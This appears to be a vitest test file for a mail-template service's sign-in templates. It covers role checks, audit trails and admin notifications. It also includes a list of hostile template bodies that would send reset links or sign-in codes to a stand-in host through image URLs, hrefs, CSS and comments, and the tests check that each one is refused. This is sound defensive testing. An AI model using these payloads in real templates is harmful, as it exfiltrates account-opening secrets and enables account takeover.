/**
 * Sign-in mail templates (issue 21): the invitation, password-reset, verification and sign-in-code
 * templates carry a link or code that opens an account. Only a role with `templates` may touch them
 * (Operations gets 403 and sees the general templates alone); a secret merge field may stand only as text
 * or as a link's whole href, at save and at preview; a default stored before that rule cannot send the
 * secret anywhere; and every change to one reaches the company's admins and the audit trail.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAccountFlowKit, type AccountFlowKit } from '../../iam/account-recovery/account-recovery-test-kit.ts';
import { signIn } from '../../iam/iam-resources-test-kit.ts';
import { templateClient, type Who } from './template-test-kit.ts';

let kit: AccountFlowKit;
let admin: Who;
let ops: Who;

beforeAll(async () => {
  kit = await startAccountFlowKit();
  admin = await signIn(kit.iam, 'admin@demo.test');
  ops = await signIn(kit.iam, 'ops@demo.test');
});
afterAll(async () => kit?.close());

const { call, templates } = templateClient(() => kit.mail);
const defaultOf = async (type: string) => (await templates(admin, type)).find((t) => t.isDefault)!;

describe('who may touch sign-in templates', () => {
  it('Operations gets 403 on every sign-in type, whatever it sends, and nothing changes', async () => {
    const reset = await defaultOf('password-reset');
    const denied: Array<[Parameters<typeof call>[0], string, object?]> = [
      ['GET', '/templates?type=password-reset'],
      ['GET', '/templates/merge-fields?type=invitation'],
      ['GET', `/templates/${reset._id}`],
      ['POST', `/templates/${reset._id}/preview`, {}],
      ['PATCH', `/templates/${reset._id}`, { version: reset.version, subject: 'Hijacked' }],
      // Not even a malformed body is looked at first.
      ['PATCH', `/templates/${reset._id}`, { version: 'x', nonsense: true }],
      ['DELETE', `/templates/${reset._id}`],
      [
        'POST',
        '/templates',
        {
          name: 'Mine',
          type: 'password-reset',
          subject: 'Reset',
          body: '<img src="https://elsewhere.example/p.gif?{{resetUrl}}">',
          isDefault: true,
        },
      ],
      ['POST', '/templates', { type: 'two-factor-code', unknownField: 1 }],
    ];
    for (const [method, url, payload] of denied) {
      const res = await call(method, url, ops, payload);
      expect(res.statusCode, `${method} ${url}: ${res.body}`).toBe(403);
      expect(res.json().code).toBe('FORBIDDEN');
      expect(res.body).not.toContain(reset.subject);
    }
    const after = await defaultOf('password-reset');
    expect(after).toEqual(reset);
    expect((await templates(admin, 'password-reset')).length).toBe(2);
  });

  it('Operations lists and edits the general templates only', async () => {
    const listed = await templates(ops);
    expect(listed.length).toBeGreaterThan(0);
    expect(new Set(listed.map((t) => t.type))).toEqual(new Set(['general']));

    const created = await call('POST', '/templates', ops, {
      name: 'Customs note',
      type: 'general',
      subject: 'Customs for {{recipientName}}',
      body: '<p>Hello {{recipientName}}</p>',
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().data._id as string;
    const edited = await call('PATCH', `/templates/${id}`, ops, { version: 1, subject: 'Customs, again' });
    expect(edited.statusCode, edited.body).toBe(200);
    expect((await call('DELETE', `/templates/${id}`, ops)).statusCode).toBe(200);
  });
});

const HOSTILE: Array<[label: string, type: string, body: string]> = [
  // The report's own example: an image that fetches the link from elsewhere.
  [
    'an image fetching the reset link',
    'password-reset',
    '<p><a href="{{resetUrl}}">Reset</a></p><img src="https://elsewhere.example/p.gif?{{resetUrl}}">',
  ],
  ['the reset link as an image', 'password-reset', '<p><img src="{{resetUrl}}" alt="Reset"> {{resetUrl}}</p>'],
  // A link whose href carries the secret inside another address.
  [
    'the reset link inside another address',
    'password-reset',
    '<a href="https://elsewhere.example/r?u={{resetUrl}}">Choose a new password</a>',
  ],
  [
    'the invitation link inside another address',
    'invitation',
    '<a href="https://elsewhere.example/{{acceptUrl}}">Join</a>',
  ],
  [
    'the verification link with more after it',
    'verify-email',
    '<a href="{{verifyUrl}}#https://elsewhere.example/">Verify</a>',
  ],
  // Any other attribute.
  ['the reset link in a title', 'password-reset', '<a href="{{resetUrl}}" title="{{resetUrl}}">Reset</a>'],
  [
    'the code in an image’s alt',
    'two-factor-code',
    '<p>Your code</p><img src="https://elsewhere.example/x.gif" alt="{{code}}">',
  ],
  ['the code as an href', 'two-factor-code', '<a href="{{code}}">Your code</a>'],
  // A style that would fetch it (the sanitizer would drop it; it is refused all the same).
  [
    'a style url',
    'password-reset',
    '<p style="background:url({{resetUrl}})">Reset: <a href="{{resetUrl}}">here</a></p>',
  ],
  [
    'a style element',
    'two-factor-code',
    '<style>p{background:url(https://elsewhere.example/?{{code}})}</style><p>{{code}}</p>',
  ],
  // Text glued to another address, which a mail client turns into a link.
  ['text glued to another address', 'password-reset', '<p>Open https://elsewhere.example/?u={{resetUrl}}</p>'],
  ['a code glued across an element', 'two-factor-code', '<p>https://elsewhere.example/c/<strong>{{code}}</strong></p>'],
  // Where the reader never sees it.
  ['a comment', 'verify-email', '<!-- {{verifyUrl}} --><p><a href="{{verifyUrl}}">Verify</a></p>'],
];

describe('where a secret merge field may stand', () => {
  it.each(HOSTILE)('%s is 400 naming body, at save, at preview and on update', async (_label, type, body) => {
    const saved = await call('POST', '/templates', admin, { name: 'Sneaky', type, subject: 'Hello', body });
    expect(saved.statusCode, saved.body).toBe(400);
    expect(saved.json().code).toBe('VALIDATION_FAILED');
    expect(saved.json().details[0].path).toBe('body');

    const template = await defaultOf(type);
    const preview = await call('POST', `/templates/${template._id}/preview`, admin, { body });
    expect(preview.statusCode, preview.body).toBe(400);
    expect(preview.json().details[0].path).toBe('body');
    expect(preview.body).not.toContain('elsewhere.example/p.gif?https');

    const edit = await call('PATCH', `/templates/${template._id}`, admin, { version: template.version, body });
    expect(edit.statusCode).toBe(400);
    expect((await defaultOf(type)).body).toBe(template.body);
  });

  it('as text, set apart, and as a link’s whole href, a secret is fine', async () => {
    for (const [type, body] of [
      [
        'password-reset',
        '<p>Open <a href="{{resetUrl}}">this link</a>, or paste ({{resetUrl}}) into your browser.</p>',
      ],
      ['invitation', '<p><a href=" {{ acceptUrl }} ">Join</a></p><p>{{acceptUrl}}</p>'],
      ['two-factor-code', '<p>Your code: <strong>{{code}}</strong>.</p>'],
    ]) {
      const res = await call('POST', '/templates', admin, { name: `Fine ${type}`, type, subject: 'Hello', body });
      expect(res.statusCode, res.body).toBe(201);
      expect((await call('DELETE', `/templates/${res.json().data._id}`, admin)).statusCode).toBe(200);
    }
  });
});

describe('a default stored before the rule', () => {
  it('does not send the reset link elsewhere: the built-in mail goes instead, and the refusal is audited', async () => {
    const template = await defaultOf('password-reset');
    const hostile = '<p><a href="{{resetUrl}}">Reset</a></p><img src="https://elsewhere.example/p.gif?{{resetUrl}}">';
    await kit.system((tx) => tx.query('UPDATE mail_templates SET body = $1 WHERE id = $2', [hostile, template._id]));

    const res = await kit.post('/auth/reset-password-link', { emailId: 'admin@demo.test' });
    expect(res.statusCode, res.body).toBeLessThan(300);
    const [mail] = await kit.inbox('admin@demo.test');
    expect(mail?.subject).toBe('Reset your Freight Desk password');
    expect(mail?.html).not.toContain('elsewhere.example');
    expect(mail?.html).not.toContain('<img');
    const token = /\/account-reset\/confirm\?token=([\w-]+)/.exec(mail?.text ?? '')?.[1];
    expect(token).toBeTruthy();

    const audit = await kit.system(async (tx) => {
      const { rows } = await tx.query<{ action: string; changes: unknown }>(
        "SELECT action, changes FROM audit_log WHERE entity = 'mailTemplate' AND entity_id = $1 ORDER BY id",
        [template._id],
      );
      return rows;
    });
    expect(audit.map((r) => r.action)).toContain('mailTemplate.refused');
    expect(JSON.stringify(audit)).not.toContain(token);
    expect(JSON.stringify(kit.captured)).not.toContain(token);
    await kit.system((tx) =>
      tx.query('UPDATE mail_templates SET body = $1 WHERE id = $2', [template.body, template._id]),
    );
  });
});

describe('a change to a sign-in template', () => {
  it('notifies the company’s admins and is in the audit trail; a general template’s change notifies nobody', async () => {
    const notices = () =>
      kit.system(async (tx) => {
        const { rows } = await tx.query<{ email: string; title: string; body: string; link: string }>(
          `SELECT u.email, n.title, n.body, n.link FROM notifications n JOIN users u ON u.id = n.user_id
            WHERE n.kind = 'sign-in-template' ORDER BY n.created_at`,
        );
        return rows;
      });
    const before = (await notices()).length;
    const template = await defaultOf('verify-email');
    const edit = await call('PATCH', `/templates/${template._id}`, admin, {
      version: template.version,
      subject: 'Please confirm {{email}}',
    });
    expect(edit.statusCode, edit.body).toBe(200);

    const sent = (await notices()).slice(before);
    expect(sent.map((n) => n.email)).toEqual(['admin@demo.test']);
    expect(sent[0]!.title).toBe('A sign-in mail template was changed');
    expect(sent[0]!.body).toContain('admin@demo.test changed the e-mail verification template');
    expect(sent[0]!.link).toBe(`/settings/templates/${template._id}/verify-email`);

    const audit = await kit.system(async (tx) => {
      const { rows } = await tx.query<{ action: string; changes: unknown }>(
        "SELECT action, changes FROM audit_log WHERE entity = 'mailTemplate' AND entity_id = $1 ORDER BY id",
        [template._id],
      );
      return rows;
    });
    expect(audit.map((r) => r.action)).toEqual(['mailTemplate.update']);
    expect(JSON.stringify(audit[0]!.changes)).toContain('Please confirm {{email}}');

    const general = await defaultOf('general');
    const plain = await call('PATCH', `/templates/${general._id}`, admin, {
      version: general.version,
      subject: 'News from {{companyName}}',
    });
    expect(plain.statusCode).toBe(200);
    expect((await notices()).length).toBe(before + 1);
  });
});
